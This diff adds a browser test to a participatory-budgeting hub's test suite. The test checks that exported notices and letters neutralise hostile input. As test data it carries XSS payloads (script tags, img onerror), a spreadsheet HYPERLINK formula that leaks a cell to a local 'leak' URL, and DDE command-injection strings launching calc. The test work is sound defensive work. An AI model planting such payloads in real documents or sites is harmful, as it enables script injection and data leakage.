@@ -7,7 +7,7 @@
 // Pabulib file downloaded from the console equal to `hub export`.
 import { test, after, before } from 'node:test';
 import assert from 'node:assert/strict';
-import { readFileSync, mkdtempSync, rmSync } from 'node:fs';
+import { readFileSync, writeFileSync, mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { startHub, launch, shot, docShot, axeViolations, exportJson, hubCmd, until } from './harness.mjs';
@@ -193,4 +193,96 @@ test('the console prints the letters: one A4 page per proposal not funded, each 
     assert.ok(readFileSync(await dl.path()).equals(readFileSync(out)), `${name} is hub export --format ${format}`);
   }
   await context.close();
+});
+
+// ---------------------------------------------------------------- hostile text
+
+const H = {
+  script: '<script>window.__pwned=1</script>',
+  img: '"><img src=x onerror="window.__pwned=1">',
+  link: '=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"点我")',
+  cmd: "+cmd|' /C calc'!A0",
+  sum: "@SUM(1+1)*cmd|' /C calc'!A0",
+};
+const toml = (s) => JSON.stringify(s); // a TOML basic string is a JSON string here (no control characters)
+const field = (s) => `"${s.replace(/"/g, '""')}"`;
+
+test('documents made from hostile text run nothing when opened from disk, and their policy blocks what got in', async () => {
+  const meeting = `[meeting]
+name = ${toml(`幸福里${H.script}`)}
+venue = ${toml(H.img)}
+date = "2026-11-28"
+proposals = "hostile.csv"
+
+[rules]
+table_names = [${toml(H.link)}, ${toml(H.script)}, ${toml(H.img)}]
+picks_per_table = 1
+max_choices = 3
+
+[rules.budget]
+amount = 40000
+currency = ${toml('<img src=x onerror=window.__pwned=1>元')}
+`;
+  const rows = [['P01', H.link, H.script, H.cmd, H.img, 10000], ['P02', H.cmd, H.img, H.sum, H.script, 20000],
+    ['P03', H.sum, H.link, H.script, H.cmd, 15000], ['P04', H.script, H.sum, H.img, H.link, 12000],
+    ['P05', H.img, H.cmd, H.link, H.sum, 30000], ['P06', '-2+3', H.script, H.img, H.cmd, 8000]];
+  const csv = 'id,title,description,location,category,proposer,cost\n' +
+    rows.map(([id, t, l, c, p, cost]) => [id, field(t), field(`${t} ${H.script}`), field(l), field(c), field(p), cost].join(',')).join('\n') + '\n';
+  const dir = mkdtempSync(join(tmpdir(), 'yz-hostile-'));
+  writeFileSync(join(dir, 'hostile.csv'), csv);
+  writeFileSync(join(dir, 'hostile.toml'), meeting.replace('"hostile.csv"', toml(join(dir, 'hostile.csv'))));
+  const h = await startHub({ voters: 6, meeting: readFileSync(join(dir, 'hostile.toml'), 'utf8') });
+  const dd = await driver(browser, h);
+  try {
+    await dd.organise({ kind: 'open_meeting' });
+    await dd.connect('adviser', h.tokens.adviser_all.token);
+    const a = await dd.command('adviser', { kind: 'annotate', proposal: 'P02', feasibility: 'excluded', exclusion_rule: 2, reason: H.script, remark: `${H.img} ${H.link}` });
+    assert.equal(a.type, 'ack', JSON.stringify(a));
+    await dd.advanceTo('voting');
+    const choices = [['P01', 'P02'], ['P01', 'P03'], ['P05', 'P01'], ['P04'], ['P03', 'P05'], ['P02', 'P06']];
+    await dd.castBallots(h.tokens.voters.map((v, i) => ({ token: v.token, choices: choices[i] })));
+    await dd.advanceTo('counted');
+
+    for (const format of ['notice', 'letters']) {
+      const file = join(dir, `${format}.html`);
+      hubCmd(['export', '--data', h.data, '--format', format, '--out', file]);
+      // And a copy into which markup was smuggled past the escaping: the document's own policy must stop it.
+      const smuggled = join(dir, `${format}-smuggled.html`);
+      writeFileSync(smuggled, readFileSync(file, 'utf8').replace('<body>', `<body>${H.script}<img src=x onerror="window.__pwned=1"><img src="http://127.0.0.1:9/beacon">`));
+      for (const path of [file, smuggled]) {
+        const page = await browser.newPage({ viewport: A4 });
+        const dialogs = [], requests = [], blocked = [], violations = [];
+        page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
+        // A request the policy blocks is reported as started, then failed: only a finished one got out.
+        page.on('requestfinished', (r) => { if (!r.url().startsWith('file:')) requests.push(r.url()); });
+        page.on('requestfailed', (r) => { if (!r.url().startsWith('file:')) blocked.push(r.failure().errorText); });
+        page.on('console', (m) => { if (/Content Security Policy/.test(m.text())) violations.push(m.text()); });
+        await page.goto(`file://${path}`);
+        await page.waitForLoadState('load');
+        const state = await page.evaluate(() => ({
+          pwned: window.__pwned,
+          elements: document.querySelectorAll('body script, body img, body iframe, [onerror], [onload]').length,
+          text: document.body.textContent,
+          styled: getComputedStyle(document.body).maxWidth,
+        }));
+        assert.equal(state.pwned, undefined, `${path}: a script ran`);
+        assert.deepEqual(dialogs, [], `${path}: a dialog opened`);
+        assert.deepEqual(requests, [], `${path}: it fetched something`);
+        assert.notEqual(state.styled, 'none', `${path}: its own style sheet applies under its policy`);
+        if (path === file) {
+          assert.equal(state.elements, 0, `${format}: the hostile markup became elements`);
+          assert.ok(state.text.includes(H.script) && state.text.includes('<img src=x onerror=window.__pwned=1>元'), `${format}: shown as text`);
+          if (format === 'notice') await shot(page, 'notice-hostile');
+        } else {
+          assert.ok(state.elements >= 2, 'the smuggled markup is there…');
+          assert.ok(violations.length >= 1, '…and the policy refused it');
+          assert.ok(blocked.length >= 1 && blocked.every((e) => /csp/i.test(e)), 'blocked by the policy: ' + blocked.join(' '));
+        }
+        await page.close();
+      }
+    }
+  } finally {
+    await h.stop();
+    rmSync(dir, { recursive: true, force: true });
+  }
 });
